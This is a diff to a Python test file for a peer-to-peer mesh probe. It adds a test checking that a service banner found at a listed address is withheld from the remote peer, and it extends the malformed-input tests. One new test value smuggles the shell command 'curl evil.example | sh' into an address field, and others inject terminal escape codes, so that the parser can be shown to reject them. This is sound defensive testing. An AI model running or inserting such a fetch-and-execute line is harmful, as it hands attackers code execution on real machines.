@@ -82,6 +82,32 @@ def test_a_peer_dials_back_only_where_its_own_file_lists_the_one_that_asks() -> 
     asyncio.run(scene())
 
 
+def test_what_a_service_says_at_a_listed_address_is_not_told_to_the_member_that_lists_it() -> None:
+    """A name that passed every eye may lead into the network of whoever dials it, by the time that it is dialled."""
+
+    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(b"SSH-2.0-OpenSSH_9.7\r\n")
+        with contextlib.suppress(OSError):
+            await writer.drain()
+            await reader.read()
+        writer.close()
+
+    async def scene() -> None:
+        sites = Sites(*SITES)
+        inner = sites.addresses["bob"]
+        async with (
+            await asyncio.start_server(serve, inner.host, inner.port),
+            running(sites.mesh("ada")) as (ada,),
+            probing(caller(sites, "bob"), "ada", sites.addresses["ada"]) as (asker, _),
+        ):
+            (found,) = await asker.dialed_back()
+            assert found.code == "P2P-MESH-014"
+            assert "SSH" not in repr(found)
+            assert "SSH" in (await ada.refusal("P2P-MESH-014")).error.evidence  # the own operator is told
+
+    asyncio.run(scene())
+
+
 def test_a_stranger_that_would_probe_is_turned_away_before_it_can_ask() -> None:
     async def scene() -> None:
         sites = Sites(*SITES)
@@ -352,16 +378,18 @@ def framed(kind: int, body: bytes) -> bytes:
     return bytes([kind]) + len(body).to_bytes(4, "big") + body
 
 
-@pytest.mark.parametrize("body", [b"", b"{}{", b"[1]", b'[["a"]]', b'[["a", "b", "c", "d", "e", "f"]]', b"[" * 9999,
-                                  json.dumps([["a", 1, "", "", "", "too many"]]).encode()])  # fmt: skip
+@pytest.mark.parametrize("body", [b"", b"{}{", b"[1]", b'[["a"]]', b'[["a:1", "b", "c", "d", "e", "f"]]', b"[" * 9999,
+                                  json.dumps([["a:1", 1, "", "", "", "too many"]]).encode(),
+                                  json.dumps([["a:1' ; curl evil.example | sh ; '", 1, "", "", ""]]).encode(),
+                                  json.dumps([["a\x1b[2J:1", 1, "", "", ""]]).encode()])  # fmt: skip
 def test_what_a_peer_says_of_its_dialling_has_one_form(body: bytes) -> None:
     with pytest.raises(probe.MalformedStream):
         probe.read_dialed("ada", body)
 
 
 def test_a_peers_words_are_safe_to_show() -> None:
-    told = probe.read_dialed("ada", json.dumps([["10.0.0.1:1\x1b[2J", 3, "", "red\x1b[31m", "x" * 999]]).encode())
-    assert not any("\x1b" in text for text in (told[0].address, told[0].happened))
+    told = probe.read_dialed("ada", json.dumps([["10.0.0.1:1", 3, "", "red\x1b[31m", "x" * 999]]).encode())
+    assert "\x1b" not in told[0].happened
     assert len(told[0].evidence) <= 300
 
 
